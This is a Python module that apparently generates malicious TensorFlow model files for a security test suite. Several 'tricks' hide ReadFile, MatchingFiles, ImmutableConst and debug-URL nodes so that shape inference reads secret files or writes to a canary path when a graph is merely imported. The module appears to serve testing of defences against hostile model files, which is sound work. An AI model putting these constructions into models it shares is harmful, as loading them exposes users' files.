"""Nodes that nothing needs, but that TensorFlow runs to infer shapes as it imports the graph."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from hostile.attacks import ATTACK, ATTACKS, Targets
from hostile.graphs import (
    FLOAT,
    INT32,
    INT64,
    Body,
    base_model,
    doubling_model,
    finish,
)
from hostile.model_files import Model
from hostile.tricks import trick


def _evaluated(
    build: Callable[[Body, Targets], str], dtype: int = INT32
) -> Callable[[Targets], Model]:
    """Return a trick in which importing the graph asks for the value of a node."""

    def make(targets: Targets) -> Model:
        meta = doubling_model()
        graph = Body(meta.graph_def)
        graph.const("pair", [1.0, 2.0], FLOAT)
        graph.add("shaped", "Reshape", "pair", build(graph, targets), T=FLOAT, Tshape=dtype)
        return Model((meta,))

    return make


def _decoded(graph: Body, content: str) -> str:
    return graph.add("sizes", "DecodeRaw", content, out_type=INT32, little_endian=True)


@trick("shape_from_a_file")
@_evaluated
def shape_from_a_file(graph: Body, targets: Targets) -> str:
    path = graph.const("path", targets.secret.encode())
    return _decoded(graph, graph.add(ATTACK, "ReadFile", path))


@trick("shape_from_a_listing")
@_evaluated
def shape_from_a_listing(graph: Body, targets: Targets) -> str:
    pattern = graph.const("path", f"{targets.secrets}/*".encode())
    files = graph.add(ATTACK, "MatchingFiles", pattern)
    return graph.add("sizes", "StringLength", files)


def _debugged(op: str, **attrs: Any) -> Callable[[Body, Targets], str]:
    def build(graph: Body, targets: Targets) -> str:
        sizes = graph.const("two_rows", [2], INT32)
        urls = [f"file://{targets.canary}"]
        return graph.add(ATTACK, op, sizes, T=INT32, debug_urls=urls, **attrs)

    return build


trick("shape_through_DebugIdentity")(
    _evaluated(_debugged("DebugIdentity", tensor_name="two_rows:0"))
)
trick("shape_through_DebugIdentityV2")(
    _evaluated(_debugged("DebugIdentityV2", op_name="n", tensor_debug_mode=2, tfdbg_run_id="r"))
)
trick("shape_through_DebugIdentityV3")(
    _evaluated(_debugged("DebugIdentityV3", device_name="d", tensor_name="n:0"))
)


@trick("shape_from_a_mapped_file")
@_evaluated
def shape_from_a_mapped_file(graph: Body, targets: Targets) -> str:
    return graph.add(
        ATTACK, "ImmutableConst", dtype=INT32, shape=[1], memory_region_name=targets.secret
    )


@trick("shape_from_a_descriptor")
@_evaluated
def shape_from_a_descriptor(graph: Body, targets: Targets) -> str:
    ATTACKS["EncodeProto"].build(graph, targets)
    return graph.add("lengths", "StringLength", "encoded")


@trick("shape_from_a_decoded_message")
@_evaluated
def shape_from_a_decoded_message(graph: Body, targets: Targets) -> str:
    ATTACKS["DecodeProtoV2"].build(graph, targets)
    return graph.add("flat", "Reshape", "decoded", graph.const("all", [-1], INT32), T=INT32)


@trick("shape_from_a_vocabulary")
@_evaluated
def shape_from_a_vocabulary(graph: Body, targets: Targets) -> str:
    ATTACKS["GenerateVocabRemapping"].build(graph, targets)
    return graph.add("cast", "Cast", "mapping", SrcT=INT64, DstT=INT32)


@trick("shape_from_a_debugged_function")
def shape_in_a_function(targets: Targets) -> Model:
    """A function's body has such a node; shape inference enters functions."""
    meta = base_model()
    body = Body(meta.graph_def).function("evil", [("a", FLOAT)], {"r": ("o:output:0", FLOAT)})
    body.const("path", targets.secret.encode())
    body.add("bytes", "ReadFile", "path:output:0")
    body.add("sizes", "DecodeRaw", "bytes:contents:0", out_type=INT32, little_endian=True)
    body.add("o", "Reshape", "a", "sizes:output:0", T=FLOAT, Tshape=INT32)
    graph = Body(meta.graph_def)
    graph.add("unused", "PartitionedCall", "mul", Tin=[FLOAT], Tout=[FLOAT], f="evil")
    return Model((finish(meta),))


@trick()
def foldable_and_unreachable(targets: Targets) -> Model:
    """A constant subgraph that an optimizer could fold."""
    meta = doubling_model()
    graph = Body(meta.graph_def)
    graph.add(ATTACK, "ReadFile", graph.const("path", targets.secret.encode()))
    graph.add("length", "StringLength", ATTACK)
    graph.add("fill", "Cast", "length", SrcT=INT32, DstT=FLOAT)
    return Model((meta,))
